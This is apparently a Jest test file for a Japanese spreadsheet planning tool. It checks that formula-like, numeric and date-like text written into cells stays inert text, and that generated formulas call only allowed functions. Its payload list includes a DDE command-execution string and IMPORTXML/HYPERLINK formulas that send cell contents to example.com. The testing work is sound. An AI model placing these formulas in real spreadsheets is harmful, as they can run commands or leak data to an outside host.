// Text that looks like a formula, a number or a date, on every way into a cell: it stays the text that it is.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { type LocalSheets, openLocalSheets } from 'local-sheets';
import { halfWidth } from '../../../src/domain/numbers/halfWidth';
import { ownerKey } from '../../../src/domain/planning/owners';
import { smallPlan } from './faults';
import { japaneseMorning } from './state';

/** How people who mean harm begin: formulas, commands, and what other programs take for one. */
const starts = ['=', '+', '-', '@', '\t=', '＝', '＋', '－', '＠', "'=", '"=', ' ='];
const harms = [
  '1+1',
  'cmd|" /C calc"!A0',
  'IMPORTXML("http://example.com/?"&A1;"//a")',
  'HYPERLINK("http://example.com/?"&A1;"見る")',
  'IMAGE("http://example.com/a.png")',
];
/** What a spreadsheet takes for something else. */
const lookAlikes = [
  '01234',
  '22 34',
  '3 5',
  '1E5',
  'TRUE',
  'false',
  '5月8日',
  '2026/5/8',
  '1/2',
  '50%',
  '¥100',
  '１２３',
  '#REF!',
  "it's",
  '1,234',
  '-5',
];
const payloads = [...starts.flatMap((start) => harms.map((harm) => `${start}${harm}`)), ...lookAlikes];

/** What generated formulas may call; nothing that reaches the network is among them. */
const FUNCTIONS =
  /^(SUM|SUMIFS|SUMPRODUCT|COUNT|COUNTIFS|IF|IFERROR|ISNUMBER|ISERROR|FIXED|MAXIFS|AND|OR|NOT|ROUND|ROUNDUP|INT|MOD|MIN|MAX|ABS|POWER|SQRT|EXP|LN|INDEX|MATCH|MID|LEFT|LEN|REPT|SUBSTITUTE|DATE|YEAR|MONTH|DAY|TODAY|WEEKDAY|NETWORKDAYS|WORKDAY|EOMONTH|EDATE|SIGN|CHOOSE|TEXT)$/;

let local: LocalSheets;

beforeAll(async () => {
  local = await openLocalSheets(japaneseMorning);
});

afterAll(() => local.close());

type Reply = { ok: boolean; sentence?: string; answer?: unknown };
const ask = (request: object): Reply => local.run('rpc', request) as Reply;

const driver = (name: string, value: number | null) => ({
  name,
  value,
  locked: value !== null,
  min: null,
  max: null,
});

interface FoundCell {
  readonly sheet: string;
  readonly value: unknown;
  readonly formula: string;
}

function cells(): FoundCell[] {
  return local.services.SpreadsheetApp.getActive()
    .getSheets()
    .flatMap((sheet) => {
      const range = sheet.getDataRange();
      const formulas = range.getFormulas();
      return range.getValues().flatMap((row, at) =>
        row.map(
          (value, column): FoundCell => ({
            sheet: sheet.getName(),
            value,
            formula: formulas[at]?.[column] ?? '',
          }),
        ),
      );
    });
}

/** The formulas that call anything but what ours do, or that are no formula of the subset. */
function foreign(found: readonly FoundCell[]): string[] {
  return found
    .map(({ formula }) => formula)
    .filter((formula) => {
      if (formula === '') return false;
      const bare = formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, 'Sheet!');
      const called = Array.from(bare.matchAll(/([\p{L}_.][\p{L}\d_.]*)\s*\(/gu), ([, name = '']) => name);
      return called.some((name) => !FUNCTIONS.test(name)) || /[{}|]|\d\.\d/.test(bare);
    });
}

test('there are at least sixty of them', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(60);
});

describe('as names of indicators and people, and in what people write', () => {
  /** The names that the language makes of them: trimmed, with full-width signs as ASCII. */
  const names = Array.from(new Set(payloads.map((text) => halfWidth(text).trim().replace(/\s+/g, ' '))));
  const equations = `[=KGI] = ${names.map((name) => `[${name}]`).join(' + ')}`;

  const manyNames = {
    ...smallPlan,
    model: { equations },
    drivers: names.map((name, at) => driver(name, at === 0 ? null : 1)),
  };
  // Of names that are one person's but for the width of a letter, the sheets have one.
  const people = Array.from(new Map(payloads.map((text) => [ownerKey(text), text.trim()])).values());

  test.each([
    ['thirty people', { ...smallPlan, owners: people.slice(0, 30) }],
    ['thirty other people', { ...smallPlan, owners: people.slice(-30) }],
    ['many indicators and two people', { ...manyNames, owners: people.slice(30, 32) }],
  ])('%s', (_, plan) => {
    const { owners } = plan;
    const reply = ask(plan);
    expect([reply.ok, reply.sentence]).toEqual([true, undefined]);
    // The local engine makes one quote of two in every formula when a sheet is renamed; the next run puts that right.
    ask(plan);
    const found = cells();
    expect(foreign(found)).toEqual([]);
    const texts = new Set(found.filter(({ formula }) => formula === '').map(({ value }) => value));
    expect(owners.filter((owner) => !texts.has(owner))).toEqual([]);
    expect(
      found.filter(
        ({ value }) =>
          typeof value === 'string' && /^#(REF!|NAME\?|VALUE!|ERROR!|N\/A)$/.test(value) && value !== '#REF!',
      ),
    ).toEqual([]);
    // What is read back is what was asked for, so that asking again writes nothing.
    const described = ask({ command: 'describe' }) as {
      answer?: { plan?: { owners: string[]; drivers: { name: string }[] } };
    };
    expect(described.answer?.plan?.owners).toEqual(owners);
    const read = new Set(described.answer?.plan?.drivers.map(({ name }) => name));
    expect(Array.from(read)).toEqual(plan.drivers.map((each) => each.name));
    local.forgetCalls();
    ask(plan);
    expect(local.calls.filter((name) => name === 'Range.setValues')).toEqual([]);
  });

  test('statements of goals and notes survive another tree, in which their rows move', () => {
    const spreadsheet = local.services.SpreadsheetApp.getActive();
    const smart = spreadsheet.getSheetByName('SMARTチェック');
    const log = spreadsheet.getSheetByName('実績');
    const written = payloads.slice(-40).map((text) => [`'${text}`]);
    smart?.getRange(4, 2, written.length, 1).setValues(written);
    log?.getRange(4, 5, written.length, 1).setValues(written);
    const statements = () =>
      smart
        ?.getRange(4, 2, 80, 1)
        .getValues()
        .flat()
        .filter((value) => value !== '')
        .map(String)
        .sort();
    const notes = () => log?.getRange(4, 5, 40, 1).getValues().flat();
    const before = { statements: statements(), notes: notes() };
    const fewer = names.slice(0, 24);
    const reply = ask({
      ...smallPlan,
      model: { equations: `[=KGI] = ${fewer.map((name) => `[${name}]`).join(' + ')}` },
      drivers: fewer.map((name, at) => driver(name, at === 0 ? null : 1)),
      owners: ['=1+1', '01234'],
    });
    expect([reply.ok, reply.sentence]).toEqual([true, undefined]);
    expect(foreign(cells())).toEqual([]);
    expect(notes()).toEqual(before.notes);
    expect(statements()).toEqual(
      expect.arrayContaining(before.statements?.filter((text) => payloads.includes(text)) ?? []),
    );
  });
});
